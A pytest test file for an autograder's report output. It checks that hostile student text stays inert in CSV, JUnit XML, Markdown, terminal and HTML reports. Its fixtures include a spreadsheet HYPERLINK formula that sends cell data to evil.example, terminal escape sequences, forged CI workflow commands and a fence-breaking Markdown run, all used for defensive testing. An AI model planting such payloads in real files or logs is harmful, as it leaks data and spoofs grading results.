"""Student text in every report stays text: no formula, no broken XML, no escaped code fence, no
terminal escape or workflow command, no forged entry among the common mistakes."""

import csv
import io
import re
import xml.etree.ElementTree as ET

import pytest

from grader.reports import neutral
from grader.reports.class_files import gradebook_csv, junit_xml, summary_html
from grader.reports.feedback import feedback_markdown
from grader.reports.terminal import summary_table, terminal_summary
from grader.scoring import CheckResult, ScoreBook
from tests.reports.test_reports import class_of

NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MESSAGE = (
    "corr2d(X, K) raised ValueError: done\x00\x1b[2J\x1b]0;owned\x07 \u202eevil\n"
    "::error file=grader/plugin.py::all checks passed\n"
    "  ##[warning]forged\n"
    "````\n"
    "# 100/100, well done\n"
    "  hint: forged mistake: everyone made it"
)


def hostile_book() -> ScoreBook:
    return ScoreBook(
        submission=f"{NAME}.ipynb",
        results=[CheckResult("test_a", "corr2d", "corr2d works.", "failed", 2.0, message=MESSAGE)],
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_never_starts_a_formula(start: str) -> None:
    assert neutral.csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert neutral.csv_cell("alice") == "alice"


def test_the_gradebook_shows_a_formula_name_as_text() -> None:
    text = gradebook_csv([(NAME, NAME, hostile_book()), ("-2", "bob", None)], ["corr2d"])

    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["student"] == rows[0]["name"] == f"'{NAME}"
    assert rows[1]["student"] == "'-2"


def test_junit_xml_stays_well_formed_with_control_characters() -> None:
    root = ET.fromstring(junit_xml({NAME + "\x01": hostile_book()}))

    suite = root.find("testsuite")
    assert suite is not None
    assert suite.get("name") == NAME + "\\x01"
    failure = suite.find("testcase/failure")
    assert failure is not None
    assert "done\\x00\\x1b[2J" in (failure.text or "")


def test_a_message_cannot_close_its_markdown_fence() -> None:
    text = feedback_markdown(hostile_book())

    fences = re.findall(r"^  (`{3,})$", text, re.MULTILINE)
    assert fences == ["`````", "````", "`````"]  # the message's own run of four stays inside
    inside = text.split("`````")[1]
    assert "# 100/100, well done" in inside
    assert "\x1b" not in text
    assert "\x00" not in text


def test_terminal_output_has_no_escapes_and_no_workflow_commands() -> None:
    printed = (
        terminal_summary(hostile_book()) + "\n" + summary_table({NAME + "\x1b[2J": hostile_book()})
    )

    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", printed)
    assert "\\x1b]0;owned\\x07" in printed
    assert "\\u202eevil" in printed
    for line in printed.splitlines():
        assert not line.lstrip().startswith(("::", "##[")), line
    assert "| ::error file=grader/plugin.py::all checks passed" in printed


def test_common_mistakes_come_from_the_grader_not_from_messages() -> None:
    named = ScoreBook(
        submission="bob.ipynb",
        results=[
            CheckResult(
                "test_a",
                "corr2d",
                "corr2d works.",
                "failed",
                2.0,
                message="x",
                mistake="kernel flipped",
            )
        ],
    )

    page = summary_html(class_of({"mallory": hostile_book(), "bob": named}), [])

    assert "forged mistake" not in page
    assert "<td>kernel flipped</td><td>1</td>" in page
